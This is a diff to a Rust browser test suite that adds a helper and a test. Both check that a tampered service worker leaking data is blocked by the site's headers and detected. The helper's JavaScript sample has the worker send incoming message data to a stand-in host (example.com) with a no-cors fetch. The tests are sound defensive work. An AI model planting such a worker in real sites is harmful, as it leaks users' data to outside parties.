@@ -127,12 +127,37 @@ fn every_way_out_is_seen() {
     );
 }
 
+/// A worker of the site that asks somebody else when it is told something, and says when it has.
+fn sending_worker() -> String {
+    let leak = "self.addEventListener('message', async ({ data, source }) => {
+        await fetch('http://example.com/?' + data, { mode: 'no-cors' }).catch(() => {});
+        source?.postMessage('asked');
+      });";
+    format!("{}\n{leak}", source("sw.js"))
+}
+
+/// A header of the host reaches the worker, which no policy of a page does.
+#[test]
+fn a_worker_that_sends_is_stopped_by_the_headers() {
+    let site = Site::start();
+    site.read_headers();
+    site.replace("sw.js", sending_worker());
+    let page = browser(&site);
+    page.begin(&Story::quiet(), "/entry/1");
+    page.until("a worker", "return navigator.serviceWorker.controller && true", serde_json::json!(null));
+    let ask = "navigator.serviceWorker.onmessage = () => { window.__asked = true };
+        navigator.serviceWorker.controller.postMessage(name)";
+    page.run(ask, serde_json::json!("word"));
+    page.until("that it tried", "return window.__asked ?? null", serde_json::json!(null));
+    assert_eq!(site.sent(), Vec::<String>::new());
+    let _ = page.refused();
+}
+
 #[test]
 fn a_worker_that_sends_is_seen() {
     let site = Site::start();
     site.let_through();
-    let leak = "self.addEventListener('message', ({ data }) => fetch('http://example.com/?' + data, { mode: 'no-cors' }).catch(() => {}));";
-    let worker = format!("{}\n{leak}", source("sw.js"));
+    let worker = sending_worker();
     site.replace("sw.js", worker.clone());
     let page = browser(&site);
     page.begin(&Story::quiet(), "/entry/1");
